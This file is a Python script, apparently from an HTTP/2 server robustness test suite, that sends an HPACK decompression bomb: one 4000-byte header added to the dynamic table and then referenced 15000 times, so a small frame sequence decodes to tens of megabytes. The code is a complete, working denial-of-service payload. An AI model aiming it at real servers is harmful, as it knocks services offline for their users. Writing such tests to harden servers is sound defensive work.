"""HPACK bomb: put one large header in the dynamic table, then reference it thousands of times
in a single small header block (tiny on the wire, huge once decoded)."""
import sys
import time

from h2common import RawReader, connect, frame, report

port = int(sys.argv[1])
sock = connect(port)
reader = RawReader(sock)
reader.start()
started = time.time()


def literal_indexed(name, value):
    # Literal with incremental indexing, new name (0x40), no Huffman.
    def s(b):
        n = len(b)
        if n < 127:
            return bytes([n]) + b
        out = bytearray([127])
        n -= 127
        while n >= 128:
            out.append((n & 0x7F) | 0x80)
            n >>= 7
        out.append(n)
        return bytes(out) + b
    return b"\x40" + s(name) + s(value)


# :method GET (idx 2), :scheme http (idx 6), :path / (idx 4), :authority literal.
base = b"\x82\x86\x84" + b"\x41" + bytes([9]) + b"127.0.0.1"
# A 4000-byte header enters the dynamic table (fits the default 4096-byte table)...
block = base + literal_indexed(b"x-bomb", b"b" * 4000)
# ...then is referenced by index 62 (the newest dynamic entry) many times: 1 byte each on the wire.
block += b"\xbe" * 15000
sent = 0
try:
    # One HEADERS frame (16 KiB max) plus CONTINUATIONs, all ending the block.
    chunks = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    for i, chunk in enumerate(chunks):
        last = i == len(chunks) - 1
        if i == 0:
            sock.sendall(frame(0x1, 0x1 | (0x4 if last else 0), 1, chunk))
        else:
            sock.sendall(frame(0x9, 0x4 if last else 0, 1, chunk))
        sent += len(chunk)
except OSError:
    pass
report("hpack_bomb", reader, sent, started, "wire_bytes=%d decoded_bytes~=%d" % (sent, 15000 * 4006))
